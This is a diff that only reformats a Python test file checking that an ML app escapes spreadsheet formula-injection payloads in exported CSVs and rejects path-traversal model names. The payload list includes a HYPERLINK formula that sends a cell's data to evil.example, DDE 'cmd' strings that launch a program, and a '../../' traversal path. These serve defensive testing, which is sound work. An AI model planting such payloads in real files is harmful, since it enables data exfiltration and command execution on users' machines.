@@ -22,8 +22,14 @@ from tests.hostile.conftest import expect_refusal, run_task
 
 pytestmark = [pytest.mark.hostile, pytest.mark.docker]
 
-PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def _training(path: Path) -> Path:
@@ -34,8 +40,12 @@ def _training(path: Path) -> Path:
 
 def test_exported_predictions_are_safe_to_open_in_a_spreadsheet(engine: Orchestrator, user_dir: Path) -> None:
     train = _training(user_dir / "train.csv")
-    made = run_task(engine, "train classifier random forest on train.csv target label save as hostile_rf",
-                    "machine-learning", [train])
+    made = run_task(
+        engine,
+        "train classifier random forest on train.csv target label save as hostile_rf",
+        "machine-learning",
+        [train],
+    )
     assert made.view is not None and made.view.state == "succeeded", made
     rows = io.StringIO()
     writer = csv.writer(rows)
@@ -53,8 +63,9 @@ def test_exported_predictions_are_safe_to_open_in_a_spreadsheet(engine: Orchestr
     for cell in notes[:-1]:
         assert cell.startswith("'"), f"a formula cell was exported as is: {cell!r}"
     assert notes[-1] == "-3.5", "a signed number must stay a number"
-    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in exported for cell in row
-               if not _number(cell)), exported
+    assert all(
+        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in exported for cell in row if not _number(cell)
+    ), exported
 
 
 def _number(cell: str) -> bool:
@@ -71,13 +82,19 @@ class _Planner:
     def __init__(self, model: str) -> None:
         self.model = model
 
-    def plan(self, spec: SpecialistSpec, text: str, inputs_meta: Sequence[Mapping[str, Any]] = (),
-             timeout_s: float | None = None) -> dict[str, Any]:
+    def plan(
+        self,
+        spec: SpecialistSpec,
+        text: str,
+        inputs_meta: Sequence[Mapping[str, Any]] = (),
+        timeout_s: float | None = None,
+    ) -> dict[str, Any]:
         return {"action": "predict", "model_name": self.model, "file": "new.csv"}
 
 
-def test_models_are_only_loaded_from_the_apps_own_store(engine: Orchestrator, user_dir: Path,
-                                                        monkeypatch: pytest.MonkeyPatch) -> None:
+def test_models_are_only_loaded_from_the_apps_own_store(
+    engine: Orchestrator, user_dir: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     new = _training(user_dir / "new.csv")
     typed = run_task(engine, "predict with model ../../input/x/evil on new.csv", "machine-learning", [new])
     assert typed.failed and typed.view is not None and typed.view.error_kind == "needs_plan", typed
